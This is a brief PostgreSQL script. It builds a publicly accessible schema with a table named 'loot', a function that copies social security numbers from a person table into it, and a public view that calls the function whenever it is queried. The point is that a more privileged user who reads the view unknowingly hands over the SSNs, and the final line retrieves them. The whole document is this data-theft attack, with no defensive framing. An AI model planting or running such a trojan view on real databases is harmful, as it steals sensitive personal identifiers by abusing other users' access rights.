CREATE SCHEMA app;
GRANT USAGE ON SCHEMA app TO PUBLIC;
CREATE TABLE app.loot (line text);
GRANT INSERT ON app.loot TO PUBLIC;
CREATE FUNCTION app.take() RETURNS boolean LANGUAGE plpgsql AS
$$ BEGIN INSERT INTO app.loot SELECT ssn FROM cpd.person; RETURN true; END $$;
CREATE VIEW app.list AS SELECT 1 AS id WHERE app.take();
GRANT SELECT ON app.list TO PUBLIC;
SELECT * FROM app.loot;
